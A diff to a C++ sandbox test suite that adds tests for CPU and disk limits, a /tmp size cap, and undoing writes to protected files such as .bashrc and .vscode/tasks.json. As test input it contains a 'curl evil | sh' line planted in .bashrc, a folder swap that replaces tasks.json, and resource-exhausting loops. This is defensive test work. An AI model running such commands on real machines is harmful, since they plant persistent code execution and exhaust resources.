@@ -97,6 +97,12 @@ private slots:
     void processCountIsCapped();
     void forkBombEndsWithTheTimeout();
     void memoryHogIsReportedAsMemory();
+    void cpuBurnersAreStoppedAtTheSummedCpuLimit();
+    void oversizedFileIsStoppedAtTheDiskLimit();
+    void manySmallFilesAreStoppedAtTheDiskLimit();
+    void tmpIsCappedBySize();
+    void createdDeniedPathsAreRemoved();
+    void replacedDeniedPathsAreRestored();
     void stopRemovesTheContainer();
     void leftoversOfADeadRunAreRemoved();
     void coldContainerPerCommand();
@@ -109,11 +115,15 @@ private slots:
 private:
     sandbox::SandboxPolicy policy(const QString &workspace) const;
     sandbox::ExecResult run(sandbox::Sandbox &box, const sandbox::ExecRequest &request);
+    sandbox::ContainerSandbox &limited();
 
     QHash<QString, QString> m_service;
     sandbox::EngineEndpoint m_unix;
     std::unique_ptr<QTemporaryDir> m_workspace;
     std::unique_ptr<sandbox::ContainerSandbox> m_sandbox;
+    // One second of CPU time and 8 MiB written per command, started by the first test to need it.
+    std::unique_ptr<QTemporaryDir> m_limitedWorkspace;
+    std::unique_ptr<sandbox::ContainerSandbox> m_limited;
 };
 
 sandbox::SandboxPolicy tst_ContainerSandbox::policy(const QString &workspace) const
@@ -135,6 +145,23 @@ sandbox::ExecResult tst_ContainerSandbox::run(sandbox::Sandbox &box,
         return {};
     }
     return *result;
+}
+
+sandbox::ContainerSandbox &tst_ContainerSandbox::limited()
+{
+    if (!m_limited) {
+        m_limitedWorkspace = std::make_unique<QTemporaryDir>();
+        auto p = policy(m_limitedWorkspace->path());
+        p.limits.cpuTime = std::chrono::seconds(1);
+        p.limits.diskBytes = 8 << 20;
+        sandbox::ContainerSandbox::Options options;
+        options.endpoint = m_unix;
+        m_limited = std::make_unique<sandbox::ContainerSandbox>(p, options);
+        auto started = m_limited->start();
+        if (!started)
+            qWarning("%s", qPrintable(started.error().message));
+    }
+    return *m_limited;
 }
 
 void tst_ContainerSandbox::initTestCase()
@@ -167,6 +194,8 @@ void tst_ContainerSandbox::cleanupTestCase()
 {
     if (m_sandbox)
         m_sandbox->stop();
+    if (m_limited)
+        m_limited->stop();
 }
 
 void tst_ContainerSandbox::runsInTheWorkspace()
@@ -390,6 +419,9 @@ void tst_ContainerSandbox::processCountIsCapped()
     const auto result = run(*m_sandbox, shell(forker));
     const int forked = result.stdoutData.trimmed().toInt();
     QVERIFY2(forked > 0 && forked < 64, result.stdoutData + result.stderrData);
+    // The command ended on its own, but a fork was refused: the caller learns why.
+    QCOMPARE(result.exitCode, 0);
+    QCOMPARE(result.limitHit, sandbox::LimitHit::Processes);
     QTRY_VERIFY_WITH_TIMEOUT(!hostProcessWith(QStringLiteral("time.sleep(1234.4)")), 2000);
     QCOMPARE(run(*m_sandbox, shell("echo alive")).stdoutData, QByteArray("alive\n"));
 }
@@ -418,6 +450,81 @@ void tst_ContainerSandbox::memoryHogIsReportedAsMemory()
     const auto killed = run(*m_sandbox, shell("kill -KILL $$"));
     QCOMPARE(killed.exitCode, 137);
     QCOMPARE(killed.limitHit, sandbox::LimitHit::None);
+}
+
+void tst_ContainerSandbox::cpuBurnersAreStoppedAtTheSummedCpuLimit()
+{
+    // Eight burners: each alone stays under its per-process limit of one second for the first
+    // eight seconds, so only the sum over the container's cgroup can stop them this soon.
+    QElapsedTimer clock;
+    clock.start();
+    const auto result = run(limited(), shell("for i in 1 2 3 4 5 6 7; do "
+                                             "(while :; do :; done) & done; while :; do :; done",
+                                             20'000));
+    QCOMPARE(result.limitHit, sandbox::LimitHit::CpuTime);
+    QVERIFY(!result.timedOut);
+    QVERIFY2(clock.elapsed() < 5000, QByteArray::number(clock.elapsed()));
+    QTRY_VERIFY_WITH_TIMEOUT(!hostProcessWith(QStringLiteral("while :; do :; done")), 2000);
+}
+
+void tst_ContainerSandbox::oversizedFileIsStoppedAtTheDiskLimit()
+{
+    const auto result = run(limited(), shell("dd if=/dev/zero of=big bs=1M count=64 2>&1"));
+    QCOMPARE(result.limitHit, sandbox::LimitHit::Disk);
+    QVERIFY(QFileInfo(m_limitedWorkspace->filePath("big")).size() <= 8 << 20);
+    QFile::remove(m_limitedWorkspace->filePath("big"));
+}
+
+void tst_ContainerSandbox::manySmallFilesAreStoppedAtTheDiskLimit()
+{
+    // Each file stays under the per-file limit; together they pass the 8 MiB cap early on, and
+    // the command ends there instead of writing all 80 MiB.
+    const auto result = run(limited(), shell("for i in $(seq 40); do "
+                                             "head -c 2097152 /dev/zero > part$i; sleep 0.05; "
+                                             "done"));
+    QCOMPARE(result.limitHit, sandbox::LimitHit::Disk);
+    const QStringList parts =
+        QDir(m_limitedWorkspace->path()).entryList({QStringLiteral("part*")}, QDir::Files);
+    QVERIFY2(parts.size() >= 4 && parts.size() < 40, qPrintable(QString::number(parts.size())));
+    for (const QString &part : parts)
+        QFile::remove(m_limitedWorkspace->filePath(part));
+}
+
+void tst_ContainerSandbox::tmpIsCappedBySize()
+{
+    const auto result = run(limited(), shell("for i in 1 2 3 4; do head -c 3000000 /dev/zero > "
+                                             "/tmp/f$i || exit 9; done"));
+    QCOMPARE(result.exitCode, 9);
+    QVERIFY2(result.stderrData.contains("No space left"), result.stderrData);
+    run(limited(), shell("rm -f /tmp/f*"));
+}
+
+void tst_ContainerSandbox::createdDeniedPathsAreRemoved()
+{
+    const auto result =
+        run(*m_sandbox, shell("echo 'curl evil | sh' > .bashrc; mkdir -p .vscode; "
+                              "echo '{}' > .vscode/tasks.json; echo ok > notes.txt"));
+    QVERIFY(!QFileInfo::exists(m_workspace->filePath(".bashrc")));
+    QVERIFY(!QFileInfo::exists(m_workspace->filePath(".vscode/tasks.json")));
+    QCOMPARE(readFile(m_workspace->filePath("notes.txt")), QByteArray("ok\n"));
+    QVERIFY2(result.stderrData.contains("[tandem] removed .bashrc"), result.stderrData);
+}
+
+void tst_ContainerSandbox::replacedDeniedPathsAreRestored()
+{
+    QTemporaryDir workspace;
+    writeFile(workspace.filePath(".vscode/tasks.json"), "{\"tasks\": []}\n");
+    sandbox::ContainerSandbox::Options options;
+    options.endpoint = m_unix;
+    sandbox::ContainerSandbox box(policy(workspace.path()), options);
+    QVERIFY(box.start().has_value());
+
+    // The file itself is read-only inside, so the attack moves its folder away instead.
+    const auto result = run(box, shell("echo evil > .vscode/tasks.json; "
+                                       "mv .vscode .vscode-old && mkdir .vscode && "
+                                       "echo evil > .vscode/tasks.json"));
+    QCOMPARE(readFile(workspace.filePath(".vscode/tasks.json")), QByteArray("{\"tasks\": []}\n"));
+    QVERIFY2(result.stderrData.contains("restored .vscode/tasks.json"), result.stderrData);
 }
 
 void tst_ContainerSandbox::stopRemovesTheContainer()
